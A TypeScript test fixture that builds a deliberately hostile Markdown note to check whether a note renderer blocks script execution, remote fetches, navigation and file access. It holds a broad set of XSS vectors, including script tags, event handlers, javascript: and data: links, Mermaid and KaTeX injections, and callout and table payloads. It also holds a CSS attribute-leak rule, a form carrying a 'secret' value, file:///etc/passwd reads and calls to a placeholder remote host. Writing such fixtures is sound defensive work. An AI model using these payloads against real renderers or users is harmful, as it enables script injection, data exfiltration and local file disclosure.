/** Whatever a note may try: run a script, fetch from `far`, leave the page, reach files. Each sets `window.ran` if it can. */
export function hostileNote(far: string): string {
  const run = (by: string) => `window.ran=(window.ran||[]).concat('${by}')`;
  return `---
title: Hostile
image: "${far}/property.png"
cssclasses: ["x\\"><script>${run('property')}</script>"]
---
# Hostile

The beginning of it.

<script>${run('script')}</script>
<script src="${far}/script.js"></script>
<img src="x" onerror="${run('onerror')}">
<img src="${far}/image-of-html.png" srcset="${far}/srcset.png 2x">
<img src="file:///etc/passwd"> ![](file:///etc/passwd)
<svg onload="${run('svg')}"><script>${run('svg script')}</script><image href="${far}/svg.png"/></svg>
<math><mtext></math><img src=x onerror="${run('math')}">
<iframe src="${far}/frame.html" srcdoc="<script>parent.${run('srcdoc')}</script>"></iframe>
<object data="${far}/object.svg"></object><embed src="${far}/embed.svg">
<video src="${far}/video.mp4" poster="${far}/poster.png" autoplay></video><audio src="${far}/audio.mp3" autoplay></audio>
<link rel="stylesheet" href="${far}/style.css"><link rel="preload" href="${far}/preload.js" as="script">
<meta http-equiv="refresh" content="0;url=${far}/refresh">
<base href="${far}/base/">
<style>@import url('${far}/import.css'); body { background: url('${far}/background.png') } [value^="a"] { background: url('${far}/leak-a') }</style>
<div style="background-image: url('${far}/inline-style.png'); position: fixed; inset: 0; z-index: 9999">over everything</div>
<form action="${far}/form"><input name="q" value="secret" autofocus onfocus="${run('onfocus')}"><button>Send it</button></form>
<details open ontoggle="${run('ontoggle')}"><summary>details</summary></details>
<a href="javascript:${run('html link')}" id="location" name="location">a link of HTML</a>

[a script link](javascript:${run('link')}) and [with a blank](<java script:${run('blank')}>) and
[data](data:text/html,<script>${run('data')}</script>) and [vb](vbscript:x) and <javascript:${run('autolink')}>.

![remote](${far}/remote.png "over there") ![[${far}/embedded.png]] ![][ref]

[ref]: ${far}/reference.png

\`\`\`mermaid
graph LR
  A["<img src='${far}/mermaid.png' onerror='${run('mermaid')}'>"] --> B
  click A href "javascript:${run('mermaid click')}"
  style A fill:url(${far}/mermaid-style.png)
\`\`\`

\`\`\`mermaid
%%{init: {"securityLevel": "loose", "themeCSS": "* { background: url(${far}/theme.png) }"}}%%
graph LR
  C["<script>${run('mermaid script')}</script>"] --> D
\`\`\`

$$\\href{javascript:${run('katex')}}{x} \\url{${far}/katex} \\includegraphics{${far}/katex.png} \\htmlStyle{background:url(${far}/katex-style)}{y}$$

$\\htmlData{x="><img src=x onerror=${run('katex data')}>}{z}$

> [!note]- <img src=x onerror="${run('callout')}"> folded
> <script>${run('in callout')}</script>

| <script>${run('table')}</script> | ![x](${far}/table.png) |
|---|---|
| [^1] | <img src="${far}/cell.png"> |

[^1]: <img src="${far}/footnote.png" onerror="${run('footnote')}">

The end of it.
`;
}
